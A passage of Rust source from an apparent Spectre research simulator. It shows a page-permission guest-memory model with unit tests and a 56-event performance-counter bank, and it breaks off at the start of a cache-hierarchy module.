    pub const R: Perms = Perms { r: true, w: false, x: false };
    /// Read-write data pages.
    pub const RW: Perms = Perms { r: true, w: true, x: false };
    /// Read-execute code pages (W^X).
    pub const RX: Perms = Perms { r: true, w: false, x: true };
    /// All permissions — only used when DEP is disabled.
    pub const RWX: Perms = Perms { r: true, w: true, x: true };
    /// No access (guard pages).
    pub const NONE: Perms = Perms { r: false, w: false, x: false };
}

impl fmt::Display for Perms {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}{}{}",
            if self.r { 'r' } else { '-' },
            if self.w { 'w' } else { '-' },
            if self.x { 'x' } else { '-' }
        )
    }
}

/// Kind of access that triggered a fault.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AccessKind {
    /// Data load.
    Read,
    /// Data store.
    Write,
    /// Instruction fetch.
    Fetch,
}

impl fmt::Display for AccessKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AccessKind::Read => write!(f, "read"),
            AccessKind::Write => write!(f, "write"),
            AccessKind::Fetch => write!(f, "fetch"),
        }
    }
}

/// A memory protection fault.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct MemFault {
    /// Faulting guest address.
    pub addr: u64,
    /// What the access was trying to do.
    pub kind: AccessKind,
}

impl fmt::Display for MemFault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "memory fault: {} at {:#x}", self.kind, self.addr)
    }
}

impl std::error::Error for MemFault {}

/// Flat guest memory with a page-permission table.
///
/// # Examples
///
/// ```
/// use cr_spectre_sim::mem::{Memory, Perms};
///
/// let mut mem = Memory::new(64 * 1024);
/// mem.set_perms(0x1000, 0x1000, Perms::RW);
/// mem.write_u64(0x1000, 0xdead_beef)?;
/// assert_eq!(mem.read_u64(0x1000)?, 0xdead_beef);
/// # Ok::<(), cr_spectre_sim::mem::MemFault>(())
/// ```
#[derive(Debug, Clone)]
pub struct Memory {
    bytes: Vec<u8>,
    page_perms: Vec<Perms>,
    /// When set, single-page accesses revalidate against [`Memory::last_page`]
    /// instead of walking the permission table. Disabled by the
    /// `MachineConfig::fast_path` escape hatch.
    fast_path: bool,
    /// Index of the last page that passed a permission check, one slot per
    /// [`AccessKind`] (`Read`, `Write`, `Fetch` in declaration order).
    /// `u64::MAX` marks an empty slot. Invalidated by [`Memory::set_perms`].
    last_page: [Cell<u64>; 3],
    /// Index of a page known to be writable *and not executable*: stores
    /// there can skip the self-modifying-code scan (no decoded instruction
    /// can depend on its bytes). `u64::MAX` = none; invalidated by
    /// [`Memory::set_perms`].
    nonx_write_page: Cell<u64>,
    /// Bumped whenever bytes in an executable page may have changed (any
    /// `poke`, a store into an executable page, or a permission change).
    /// Consumers caching decoded instructions revalidate against this.
    code_epoch: u64,
}

/// Sentinel for an empty [`Memory::last_page`] slot.
const NO_PAGE: u64 = u64::MAX;

impl Memory {
    /// Creates a memory of `size` bytes (rounded up to a whole page), with
    /// all pages initially inaccessible.
    pub fn new(size: u64) -> Memory {
        let pages = size.div_ceil(PAGE_SIZE) as usize;
        Memory {
            bytes: vec![0; pages * PAGE_SIZE as usize],
            page_perms: vec![Perms::NONE; pages],
            fast_path: true,
            last_page: [Cell::new(NO_PAGE), Cell::new(NO_PAGE), Cell::new(NO_PAGE)],
            nonx_write_page: Cell::new(NO_PAGE),
            code_epoch: 0,
        }
    }

    /// Enables or disables the single-page permission cache. Checks always
    /// fall back to the full page walk when disabled; results are identical
    /// either way.
    pub fn set_fast_path(&mut self, enabled: bool) {
        self.fast_path = enabled;
        for slot in &self.last_page {
            slot.set(NO_PAGE);
        }
        self.nonx_write_page.set(NO_PAGE);
    }

    /// Generation counter for code-bytes mutations: bumped on every `poke`,
    /// on stores that touch an executable page, and on permission changes.
    /// Any cache of decoded instructions is stale once this moves.
    pub fn code_epoch(&self) -> u64 {
        self.code_epoch
    }

    /// Total size in bytes.
    pub fn size(&self) -> u64 {
        self.bytes.len() as u64
    }

    /// Sets permissions for all pages overlapping `[addr, addr + len)`.
    ///
    /// # Panics
    ///
    /// Panics if the range extends beyond the end of memory.
    pub fn set_perms(&mut self, addr: u64, len: u64, perms: Perms) {
        assert!(addr + len <= self.size(), "set_perms out of range");
        if len == 0 {
            return;
        }
        let first = (addr / PAGE_SIZE) as usize;
        let last = ((addr + len - 1) / PAGE_SIZE) as usize;
        for page in &mut self.page_perms[first..=last] {
            *page = perms;
        }
        // Cached page validations no longer hold, and previously
        // non-executable bytes may now be fetchable (or vice versa).
        for slot in &self.last_page {
            slot.set(NO_PAGE);
        }
        self.nonx_write_page.set(NO_PAGE);
        self.code_epoch += 1;
    }

    /// Returns the permissions of the page containing `addr`, or `NONE` for
    /// out-of-range addresses.
    pub fn perms_at(&self, addr: u64) -> Perms {
        self.page_perms
            .get((addr / PAGE_SIZE) as usize)
            .copied()
            .unwrap_or(Perms::NONE)
    }

    #[inline]
    fn check(&self, addr: u64, len: u64, kind: AccessKind) -> Result<(), MemFault> {
        if len == 0 {
            return Ok(());
        }
        let end = addr.checked_add(len - 1).ok_or(MemFault { addr, kind })?;
        // Fast path: the overwhelmingly common access stays within one page
        // and hits the same page as the previous access of the same kind.
        // The cached index is only ever a page that passed the full check,
        // and `set_perms` invalidates it, so a hit needs no further work.
        if self.fast_path
            && addr / PAGE_SIZE == end / PAGE_SIZE
            && self.last_page[kind as usize].get() == addr / PAGE_SIZE
        {
            return Ok(());
        }
        self.check_slow(addr, end, kind)
    }

    /// Full page walk over `[addr, end]`; seeds the fast-path cache on a
    /// successful single-page check.
    fn check_slow(&self, addr: u64, end: u64, kind: AccessKind) -> Result<(), MemFault> {
        if end >= self.size() {
            return Err(MemFault { addr, kind });
        }
        // Check each page the access touches.
        let mut page_addr = addr & !(PAGE_SIZE - 1);
        while page_addr <= end {
            let perms = self.perms_at(page_addr);
            let ok = match kind {
                AccessKind::Read => perms.r,
                AccessKind::Write => perms.w,
                AccessKind::Fetch => perms.x,
            };
            if !ok {
                return Err(MemFault { addr: page_addr.max(addr), kind });
            }
            page_addr += PAGE_SIZE;
        }
        if self.fast_path && addr / PAGE_SIZE == end / PAGE_SIZE {
            self.last_page[kind as usize].set(addr / PAGE_SIZE);
        }
        Ok(())
    }

    /// Reads `buf.len()` bytes from `addr`.
    ///
    /// # Errors
    ///
    /// Returns a [`MemFault`] if any touched page lacks read permission or
    /// the range is out of bounds.
    pub fn read(&self, addr: u64, buf: &mut [u8]) -> Result<(), MemFault> {
        self.check(addr, buf.len() as u64, AccessKind::Read)?;
        buf.copy_from_slice(self.bytes_at(addr, buf.len()));
        Ok(())
    }

    /// Writes `data` at `addr`.
    ///
    /// # Errors
    ///
    /// Returns a [`MemFault`] if any touched page lacks write permission or
    /// the range is out of bounds.
    pub fn write(&mut self, addr: u64, data: &[u8]) -> Result<(), MemFault> {
        self.check(addr, data.len() as u64, AccessKind::Write)?;
        if !data.is_empty() {
            // Self-modifying code: a store into any executable page makes
            // cached decodes stale. (With DEP on, no page is both W and X,
            // so this never fires on the hardened configurations.) A store
            // that stays within a page already proven non-executable can
            // skip the scan; `set_perms` invalidates the proof.
            let end = addr + data.len() as u64 - 1;
            let page = addr / PAGE_SIZE;
            if !(self.fast_path
                && page == end / PAGE_SIZE
                && self.nonx_write_page.get() == page)
            {
                let mut page_addr = addr & !(PAGE_SIZE - 1);
                let mut any_x = false;
                while page_addr <= end {
                    if self.perms_at(page_addr).x {
                        self.code_epoch += 1;
                        any_x = true;
                        break;
                    }
                    page_addr += PAGE_SIZE;
                }
                if self.fast_path && !any_x && page == end / PAGE_SIZE {
                    self.nonx_write_page.set(page);
                }
            }
        }
        let a = addr as usize;
        self.bytes[a..a + data.len()].copy_from_slice(data);
        Ok(())
    }

    /// Fetches instruction bytes: like [`Memory::read`] but requires execute
    /// permission (DEP enforcement point).
    ///
    /// # Errors
    ///
    /// Returns a [`MemFault`] when the page is not executable.
    pub fn fetch(&self, addr: u64, buf: &mut [u8]) -> Result<(), MemFault> {
        self.check(addr, buf.len() as u64, AccessKind::Fetch)?;
        buf.copy_from_slice(self.bytes_at(addr, buf.len()));
        Ok(())
    }

    /// Raw backing-store slice for an in-bounds range; shared by the checked
    /// accessors (after a permission check) and [`Memory::peek`].
    #[inline]
    fn bytes_at(&self, addr: u64, len: usize) -> &[u8] {
        &self.bytes[addr as usize..addr as usize + len]
    }

    /// Reads one byte.
    ///
    /// # Errors
    ///
    /// See [`Memory::read`].
    pub fn read_u8(&self, addr: u64) -> Result<u8, MemFault> {
        let mut b = [0u8; 1];
        self.read(addr, &mut b)?;
        Ok(b[0])
    }

    /// Reads a little-endian `u32`.
    ///
    /// # Errors
    ///
    /// See [`Memory::read`].
    pub fn read_u32(&self, addr: u64) -> Result<u32, MemFault> {
        let mut b = [0u8; 4];
        self.read(addr, &mut b)?;
        Ok(u32::from_le_bytes(b))
    }

    /// Reads a little-endian `u64`.
    ///
    /// # Errors
    ///
    /// See [`Memory::read`].
    pub fn read_u64(&self, addr: u64) -> Result<u64, MemFault> {
        let mut b = [0u8; 8];
        self.read(addr, &mut b)?;
        Ok(u64::from_le_bytes(b))
    }

    /// Writes one byte.
    ///
    /// # Errors
    ///
    /// See [`Memory::write`].
    pub fn write_u8(&mut self, addr: u64, value: u8) -> Result<(), MemFault> {
        self.write(addr, &[value])
    }

    /// Writes a little-endian `u32`.
    ///
    /// # Errors
    ///
    /// See [`Memory::write`].
    pub fn write_u32(&mut self, addr: u64, value: u32) -> Result<(), MemFault> {
        self.write(addr, &value.to_le_bytes())
    }

    /// Writes a little-endian `u64`.
    ///
    /// # Errors
    ///
    /// See [`Memory::write`].
    pub fn write_u64(&mut self, addr: u64, value: u64) -> Result<(), MemFault> {
        self.write(addr, &value.to_le_bytes())
    }

    /// Reads a NUL-terminated string of at most `max` bytes starting at
    /// `addr`.
    ///
    /// # Errors
    ///
    /// Returns a [`MemFault`] on an unreadable byte before the terminator.
    pub fn read_cstr(&self, addr: u64, max: usize) -> Result<Vec<u8>, MemFault> {
        let mut out = Vec::new();
        let mut cur = addr;
        let mut remaining = max as u64;
        // Scan page-sized chunks: one permission check per page instead of
        // one per byte. Pages past the terminator (or past `max`) are never
        // touched, so a string ending exactly at a page boundary does not
        // fault on an unreadable next page — same contract as the byte loop.
        while remaining > 0 {
            // One byte's check validates its whole page (perms are
            // page-granular), and a failed check faults at `cur`, the first
            // unreadable byte — identical to the per-byte scan.
            self.check(cur, 1, AccessKind::Read)?;
            let page_end = (cur & !(PAGE_SIZE - 1)) + PAGE_SIZE;
            let chunk = remaining.min(page_end - cur) as usize;
            let bytes = self.bytes_at(cur, chunk);
            match bytes.iter().position(|&b| b == 0) {
                Some(nul) => {
                    out.extend_from_slice(&bytes[..nul]);
                    return Ok(out);
                }
                None => out.extend_from_slice(bytes),
            }
            cur += chunk as u64;
            remaining -= chunk as u64;
        }
        Ok(out)
    }

    /// Writes raw bytes ignoring permissions — loader/debugger use only.
    ///
    /// # Panics
    ///
    /// Panics if the range is out of bounds.
    pub fn poke(&mut self, addr: u64, data: &[u8]) {
        let a = addr as usize;
        self.bytes[a..a + data.len()].copy_from_slice(data);
        // A poke bypasses permissions, so it may rewrite code no matter what
        // the page table says — always treat it as a code mutation.
        if !data.is_empty() {
            self.code_epoch += 1;
        }
    }

    /// Reads raw bytes ignoring permissions — loader/debugger use only.
    ///
    /// # Panics
    ///
    /// Panics if the range is out of bounds.
    pub fn peek(&self, addr: u64, len: usize) -> &[u8] {
        self.bytes_at(addr, len)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn new_memory_is_inaccessible() {
        let mem = Memory::new(PAGE_SIZE * 4);
        assert!(mem.read_u8(0).is_err());
        assert_eq!(mem.size(), PAGE_SIZE * 4);
    }

    #[test]
    fn size_rounds_up_to_page() {
        let mem = Memory::new(PAGE_SIZE + 1);
        assert_eq!(mem.size(), PAGE_SIZE * 2);
    }

    #[test]
    fn rw_round_trip() {
        let mut mem = Memory::new(PAGE_SIZE * 2);
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        mem.write_u64(8, 0x0123_4567_89ab_cdef).unwrap();
        assert_eq!(mem.read_u64(8).unwrap(), 0x0123_4567_89ab_cdef);
        assert_eq!(mem.read_u32(8).unwrap(), 0x89ab_cdef);
        assert_eq!(mem.read_u8(15).unwrap(), 0x01);
    }

    #[test]
    fn write_to_readonly_faults() {
        let mut mem = Memory::new(PAGE_SIZE);
        mem.set_perms(0, PAGE_SIZE, Perms::R);
        let err = mem.write_u8(0, 1).unwrap_err();
        assert_eq!(err.kind, AccessKind::Write);
        assert!(mem.read_u8(0).is_ok());
    }

    #[test]
    fn fetch_requires_execute() {
        let mut mem = Memory::new(PAGE_SIZE * 2);
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        mem.set_perms(PAGE_SIZE, PAGE_SIZE, Perms::RX);
        let mut buf = [0u8; 8];
        // DEP: data page is readable but not executable.
        assert_eq!(
            mem.fetch(0, &mut buf).unwrap_err().kind,
            AccessKind::Fetch
        );
        assert!(mem.fetch(PAGE_SIZE, &mut buf).is_ok());
    }

    #[test]
    fn cross_page_access_checks_both_pages() {
        let mut mem = Memory::new(PAGE_SIZE * 2);
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        // Second page stays NONE; an 8-byte write straddling the boundary
        // must fault even though it starts on a writable page.
        assert!(mem.write_u64(PAGE_SIZE - 4, 0).is_err());
        mem.set_perms(PAGE_SIZE, PAGE_SIZE, Perms::RW);
        assert!(mem.write_u64(PAGE_SIZE - 4, 0).is_ok());
    }

    #[test]
    fn out_of_bounds_faults() {
        let mut mem = Memory::new(PAGE_SIZE);
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        assert!(mem.read_u64(PAGE_SIZE - 4).is_err());
        assert!(mem.read_u8(u64::MAX).is_err());
    }

    #[test]
    fn cstr_reading() {
        let mut mem = Memory::new(PAGE_SIZE);
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        mem.write(100, b"spectre\0junk").unwrap();
        assert_eq!(mem.read_cstr(100, 64).unwrap(), b"spectre");
        // Max cap stops the scan.
        assert_eq!(mem.read_cstr(100, 3).unwrap(), b"spe");
    }

    #[test]
    fn poke_peek_bypass_permissions() {
        let mut mem = Memory::new(PAGE_SIZE);
        mem.poke(0, &[1, 2, 3]);
        assert_eq!(mem.peek(0, 3), &[1, 2, 3]);
        assert!(mem.read_u8(0).is_err(), "architectural access still faults");
    }

    #[test]
    fn fast_path_cache_is_invalidated_by_set_perms() {
        let mut mem = Memory::new(PAGE_SIZE * 2);
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        // Warm the per-kind cache on page 0.
        assert!(mem.read_u8(8).is_ok());
        assert!(mem.write_u8(8, 1).is_ok());
        // Revoking access must not be masked by the cached validation.
        mem.set_perms(0, PAGE_SIZE, Perms::NONE);
        assert!(mem.read_u8(8).is_err());
        assert!(mem.write_u8(8, 1).is_err());
    }

    #[test]
    fn fast_path_disabled_matches_enabled() {
        let build = |fast: bool| {
            let mut mem = Memory::new(PAGE_SIZE * 2);
            mem.set_fast_path(fast);
            mem.set_perms(0, PAGE_SIZE, Perms::RW);
            mem
        };
        let mut fast = build(true);
        let mut slow = build(false);
        for addr in [0, 8, PAGE_SIZE - 1, PAGE_SIZE, PAGE_SIZE - 4, u64::MAX] {
            assert_eq!(fast.read_u8(addr), slow.read_u8(addr), "read at {addr:#x}");
            assert_eq!(fast.write_u8(addr, 7), slow.write_u8(addr, 7), "write at {addr:#x}");
            assert_eq!(fast.read_u64(addr), slow.read_u64(addr), "read_u64 at {addr:#x}");
        }
    }

    #[test]
    fn code_epoch_tracks_code_mutations() {
        let mut mem = Memory::new(PAGE_SIZE * 2);
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        mem.set_perms(PAGE_SIZE, PAGE_SIZE, Perms::RWX);
        let e0 = mem.code_epoch();
        // Plain data store: no code could have changed.
        mem.write_u8(8, 1).unwrap();
        assert_eq!(mem.code_epoch(), e0);
        // Store into an executable page: cached decodes are stale.
        mem.write_u8(PAGE_SIZE, 1).unwrap();
        assert!(mem.code_epoch() > e0);
        // Pokes bypass permissions entirely, so every poke counts.
        let e1 = mem.code_epoch();
        mem.poke(8, &[0xcc]);
        assert!(mem.code_epoch() > e1);
        // Permission changes count too (bytes may become fetchable).
        let e2 = mem.code_epoch();
        mem.set_perms(0, PAGE_SIZE, Perms::RX);
        assert!(mem.code_epoch() > e2);
    }

    #[test]
    fn cstr_max_ending_exactly_at_page_boundary() {
        let mut mem = Memory::new(PAGE_SIZE * 2);
        // Page 0 readable, page 1 a guard page.
        mem.set_perms(0, PAGE_SIZE, Perms::RW);
        mem.write(PAGE_SIZE - 3, b"abc").unwrap();
        // `max` runs out exactly at the boundary: the unreadable next page
        // must never be touched.
        assert_eq!(mem.read_cstr(PAGE_SIZE - 3, 3).unwrap(), b"abc");
        // One byte more crosses into the guard page and faults there.
        let err = mem.read_cstr(PAGE_SIZE - 3, 4).unwrap_err();
        assert_eq!(err, MemFault { addr: PAGE_SIZE, kind: AccessKind::Read });
        // A terminator on the last byte of the page also stops the scan.
        mem.write(PAGE_SIZE - 3, b"ab\0").unwrap();
        assert_eq!(mem.read_cstr(PAGE_SIZE - 3, 64).unwrap(), b"ab");
    }

    #[test]
    fn cstr_spans_readable_pages() {
        let mut mem = Memory::new(PAGE_SIZE * 2);
        mem.set_perms(0, PAGE_SIZE * 2, Perms::RW);
        mem.write(PAGE_SIZE - 2, b"spectre\0").unwrap();
        assert_eq!(mem.read_cstr(PAGE_SIZE - 2, 64).unwrap(), b"spectre");
        // Zero-length request reads nothing, even from a bad address.
        assert_eq!(mem.read_cstr(u64::MAX, 0).unwrap(), b"");
    }
}

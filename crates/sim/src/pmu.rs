//! Performance monitoring unit: 56 hardware performance counters.
//!
//! The paper collects "a total of 56 performance events available on the
//! system" offline and monitors a small subset (feature sizes 16/8/4/2/1)
//! in real time. This module defines the full event set produced by the
//! simulator and a [`Pmu`] counter bank with snapshot/delta support used by
//! the `cr-spectre-hpc` profiler.

use std::cell::Cell;
use std::fmt;
use std::ops::{Index, Sub};

/// One hardware performance event.
///
/// The first six events are the classifier features highlighted by the
/// paper (total cache misses, total cache accesses, total branch
/// instructions, branch mispredictions, total instructions, total cycles);
/// see [`HpcEvent::PAPER_FEATURES`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[repr(u8)]
pub enum HpcEvent {
    /// Total cache misses across all levels (paper feature 1).
    TotalCacheMiss,
    /// Total cache accesses across all levels (paper feature 2).
    TotalCacheAccess,
    /// Total branch instructions (paper feature 3).
    BranchInstrs,
    /// Mispredicted branches (paper feature 4).
    BranchMispredicts,
    /// Architecturally retired instructions (paper feature 5).
    Instructions,
    /// Elapsed cycles (paper feature 6; used for the IPC metric).
    Cycles,
    /// L1 data-cache accesses.
    L1dAccess,
    /// L1 data-cache hits.
    L1dHit,
    /// L1 data-cache misses.
    L1dMiss,
    /// L1 instruction-cache accesses.
    L1iAccess,
    /// L1 instruction-cache hits.
    L1iHit,
    /// L1 instruction-cache misses.
    L1iMiss,
    /// L2 accesses.
    L2Access,
    /// L2 hits.
    L2Hit,
    /// L2 misses.
    L2Miss,
    /// Demand reads that reached DRAM.
    MemReads,
    /// Writes that reached DRAM.
    MemWrites,
    /// Retired load instructions.
    Loads,
    /// Retired store instructions.
    Stores,
    /// Retired byte-wide loads.
    LoadBytes,
    /// Retired 64-bit loads.
    LoadDwords,
    /// Conditional branches retired.
    CondBranches,
    /// Conditional branches resolved taken.
    BranchTaken,
    /// Conditional branches resolved not-taken.
    BranchNotTaken,
    /// Indirect jumps/calls retired.
    IndirectBranches,
    /// Direct/indirect calls retired.
    Calls,
    /// Returns retired.
    Returns,
    /// Returns whose RSB prediction was wrong.
    RsbMispredicts,
    /// Indirect branches with no/incorrect BTB target.
    BtbMispredicts,
    /// Unconditional jumps retired.
    Jumps,
    /// `PUSH` instructions retired.
    Pushes,
    /// `POP` instructions retired.
    Pops,
    /// ALU register-register operations retired.
    AluOps,
    /// Multiply operations retired.
    MulOps,
    /// Divide/remainder operations retired.
    DivOps,
    /// Shift operations retired.
    ShiftOps,
    /// Immediate-operand ALU operations retired.
    AluImmOps,
    /// Register moves and immediate loads retired.
    MovOps,
    /// `CLFLUSH` instructions retired.
    Flushes,
    /// `MFENCE` instructions retired.
    Fences,
    /// `RDTSC` instructions retired.
    Rdtscs,
    /// System calls executed.
    Syscalls,
    /// Instructions executed transiently (later squashed).
    SpecInstrs,
    /// Loads executed transiently.
    SpecLoads,
    /// Stores buffered transiently (dropped at squash).
    SpecStores,
    /// Pipeline squashes (mispredict recoveries).
    SpecSquashes,
    /// Speculation windows that hit the depth cap.
    SpecWindowExhausted,
    /// Cycles stalled waiting on data-cache misses.
    StallCyclesMem,
    /// Cycles lost to branch-mispredict recovery.
    StallCyclesBranch,
    /// Memory-protection faults suppressed during speculation.
    SpecFaultsSuppressed,
    /// Architectural memory-protection faults raised.
    PageFaults,
    /// Stack-canary checks executed.
    CanaryChecks,
    /// Shadow-stack mismatches detected.
    ShadowStackViolations,
    /// `exec` system calls (image injections).
    ExecCalls,
    /// Bytes written through the `write` syscall.
    BytesWritten,
    /// Cache lines evicted by capacity/conflict replacement.
    CacheEvictions,
}

impl HpcEvent {
    /// Number of distinct events (matches the paper's "total of 56").
    pub const COUNT: usize = 56;

    /// The six features used by the paper's HID, in paper order.
    pub const PAPER_FEATURES: [HpcEvent; 6] = [
        HpcEvent::TotalCacheMiss,
        HpcEvent::TotalCacheAccess,
        HpcEvent::BranchInstrs,
        HpcEvent::BranchMispredicts,
        HpcEvent::Instructions,
        HpcEvent::Cycles,
    ];

    /// All events in index order.
    pub fn all() -> impl Iterator<Item = HpcEvent> {
        (0..Self::COUNT as u8).map(|i| HpcEvent::from_index(i).expect("index in range"))
    }

    /// The event's counter index in `0..56`.
    pub fn index(self) -> usize {
        self as usize
    }

    /// Builds an event from its counter index.
    pub fn from_index(idx: u8) -> Option<HpcEvent> {
        if (idx as usize) < Self::COUNT {
            // SAFETY-free: enum is repr(u8) with contiguous discriminants
            // 0..COUNT; use a lookup built from the match below instead of
            // transmute.
            Some(ALL_EVENTS[idx as usize])
        } else {
            None
        }
    }
}

const ALL_EVENTS: [HpcEvent; HpcEvent::COUNT] = [
    HpcEvent::TotalCacheMiss,
    HpcEvent::TotalCacheAccess,
    HpcEvent::BranchInstrs,
    HpcEvent::BranchMispredicts,
    HpcEvent::Instructions,
    HpcEvent::Cycles,
    HpcEvent::L1dAccess,
    HpcEvent::L1dHit,
    HpcEvent::L1dMiss,
    HpcEvent::L1iAccess,
    HpcEvent::L1iHit,
    HpcEvent::L1iMiss,
    HpcEvent::L2Access,
    HpcEvent::L2Hit,
    HpcEvent::L2Miss,
    HpcEvent::MemReads,
    HpcEvent::MemWrites,
    HpcEvent::Loads,
    HpcEvent::Stores,
    HpcEvent::LoadBytes,
    HpcEvent::LoadDwords,
    HpcEvent::CondBranches,
    HpcEvent::BranchTaken,
    HpcEvent::BranchNotTaken,
    HpcEvent::IndirectBranches,
    HpcEvent::Calls,
    HpcEvent::Returns,
    HpcEvent::RsbMispredicts,
    HpcEvent::BtbMispredicts,
    HpcEvent::Jumps,
    HpcEvent::Pushes,
    HpcEvent::Pops,
    HpcEvent::AluOps,
    HpcEvent::MulOps,
    HpcEvent::DivOps,
    HpcEvent::ShiftOps,
    HpcEvent::AluImmOps,
    HpcEvent::MovOps,
    HpcEvent::Flushes,
    HpcEvent::Fences,
    HpcEvent::Rdtscs,
    HpcEvent::Syscalls,
    HpcEvent::SpecInstrs,
    HpcEvent::SpecLoads,
    HpcEvent::SpecStores,
    HpcEvent::SpecSquashes,
    HpcEvent::SpecWindowExhausted,
    HpcEvent::StallCyclesMem,
    HpcEvent::StallCyclesBranch,
    HpcEvent::SpecFaultsSuppressed,
    HpcEvent::PageFaults,
    HpcEvent::CanaryChecks,
    HpcEvent::ShadowStackViolations,
    HpcEvent::ExecCalls,
    HpcEvent::BytesWritten,
    HpcEvent::CacheEvictions,
];

impl fmt::Display for HpcEvent {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{self:?}")
    }
}

/// A snapshot of all 56 counters at one instant.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PmuSnapshot {
    counts: [u64; HpcEvent::COUNT],
}

impl PmuSnapshot {
    /// The zero snapshot.
    pub fn zero() -> PmuSnapshot {
        PmuSnapshot { counts: [0; HpcEvent::COUNT] }
    }

    /// Counter value for `event`.
    pub fn count(&self, event: HpcEvent) -> u64 {
        self.counts[event.index()]
    }

    /// All counter values in event-index order.
    pub fn as_array(&self) -> &[u64; HpcEvent::COUNT] {
        &self.counts
    }

    /// Instructions-per-cycle over this snapshot (0 when no cycles).
    pub fn ipc(&self) -> f64 {
        let cycles = self.count(HpcEvent::Cycles);
        if cycles == 0 {
            0.0
        } else {
            self.count(HpcEvent::Instructions) as f64 / cycles as f64
        }
    }
}

impl Index<HpcEvent> for PmuSnapshot {
    type Output = u64;

    fn index(&self, event: HpcEvent) -> &u64 {
        &self.counts[event.index()]
    }
}

impl Sub for PmuSnapshot {
    type Output = PmuSnapshot;

    /// Per-counter saturating difference: `self - earlier`.
    fn sub(self, earlier: PmuSnapshot) -> PmuSnapshot {
        let mut counts = [0u64; HpcEvent::COUNT];
        for (i, c) in counts.iter_mut().enumerate() {
            *c = self.counts[i].saturating_sub(earlier.counts[i]);
        }
        PmuSnapshot { counts }
    }
}

/// The live counter bank.
///
/// Counters use [`Cell`] interior mutability so that shared-reference
/// observation points can settle lazily batched updates: the simulator's
/// fast path accumulates hot-loop counts locally and mirrors them into
/// the bank when the PMU is *read* (`Machine::pmu`), not on every step.
/// `Cell<u64>` compiles to plain loads and stores, so the counters cost
/// the same as bare integers; the bank is `Send` but (like the rest of a
/// `Machine`) not `Sync`.
///
/// # Examples
///
/// ```
/// use cr_spectre_sim::pmu::{HpcEvent, Pmu};
///
/// let pmu = Pmu::new();
/// pmu.add(HpcEvent::Instructions, 3);
/// let before = pmu.snapshot();
/// pmu.add(HpcEvent::Instructions, 2);
/// let delta = pmu.snapshot() - before;
/// assert_eq!(delta.count(HpcEvent::Instructions), 2);
/// ```
#[derive(Debug, Clone)]
pub struct Pmu {
    counts: [Cell<u64>; HpcEvent::COUNT],
}

impl Pmu {
    /// Creates a zeroed counter bank.
    pub fn new() -> Pmu {
        Pmu { counts: [const { Cell::new(0) }; HpcEvent::COUNT] }
    }

    /// Increments `event` by one.
    #[inline]
    pub fn incr(&self, event: HpcEvent) {
        let c = &self.counts[event.index()];
        c.set(c.get() + 1);
    }

    /// Adds `n` to `event`.
    #[inline]
    pub fn add(&self, event: HpcEvent, n: u64) {
        let c = &self.counts[event.index()];
        c.set(c.get() + n);
    }

    /// Current value of `event`.
    #[inline]
    pub fn count(&self, event: HpcEvent) -> u64 {
        self.counts[event.index()].get()
    }

    /// Copies the current counters into an immutable snapshot.
    pub fn snapshot(&self) -> PmuSnapshot {
        PmuSnapshot { counts: std::array::from_fn(|i| self.counts[i].get()) }
    }

    /// Resets every counter to zero.
    pub fn reset(&self) {
        for c in &self.counts {
            c.set(0);
        }
    }
}

impl Default for Pmu {
    fn default() -> Pmu {
        Pmu::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn event_count_is_56() {
        assert_eq!(HpcEvent::all().count(), 56);
        assert_eq!(HpcEvent::COUNT, 56);
    }

    #[test]
    fn index_round_trip() {
        for event in HpcEvent::all() {
            assert_eq!(HpcEvent::from_index(event.index() as u8), Some(event));
        }
        assert_eq!(HpcEvent::from_index(56), None);
    }

    #[test]
    fn all_events_table_matches_discriminants() {
        for (i, &event) in ALL_EVENTS.iter().enumerate() {
            assert_eq!(event.index(), i, "{event}");
        }
    }

    #[test]
    fn paper_features_are_the_first_six() {
        for (i, event) in HpcEvent::PAPER_FEATURES.iter().enumerate() {
            assert_eq!(event.index(), i);
        }
    }

    #[test]
    fn snapshot_delta() {
        let pmu = Pmu::new();
        pmu.add(HpcEvent::Cycles, 100);
        pmu.add(HpcEvent::Instructions, 50);
        let a = pmu.snapshot();
        pmu.add(HpcEvent::Cycles, 10);
        pmu.incr(HpcEvent::L1dMiss);
        let d = pmu.snapshot() - a;
        assert_eq!(d.count(HpcEvent::Cycles), 10);
        assert_eq!(d.count(HpcEvent::L1dMiss), 1);
        assert_eq!(d.count(HpcEvent::Instructions), 0);
    }

    #[test]
    fn delta_saturates_instead_of_underflowing() {
        let pmu = Pmu::new();
        pmu.add(HpcEvent::Cycles, 5);
        let later = pmu.snapshot();
        pmu.reset();
        pmu.add(HpcEvent::Cycles, 2);
        let earlier_after_reset = pmu.snapshot();
        let d = earlier_after_reset - later;
        assert_eq!(d.count(HpcEvent::Cycles), 0);
    }

    #[test]
    fn ipc() {
        let pmu = Pmu::new();
        assert_eq!(pmu.snapshot().ipc(), 0.0);
        pmu.add(HpcEvent::Instructions, 300);
        pmu.add(HpcEvent::Cycles, 100);
        assert!((pmu.snapshot().ipc() - 3.0).abs() < 1e-12);
    }

    #[test]
    fn reset_zeroes() {
        let pmu = Pmu::new();
        pmu.incr(HpcEvent::Flushes);
        pmu.reset();
        assert_eq!(pmu.snapshot(), PmuSnapshot::zero());
    }
}

//! Set-associative cache hierarchy with flush support.
//!
//! The hierarchy models **timing and occupancy only** — data always lives in
//! [`crate::mem::Memory`]; the caches track which line tags are resident so
//! that loads can be charged a hit or miss latency. That is exactly the
//! surface the Spectre covert channel needs: a *measurable latency gap*
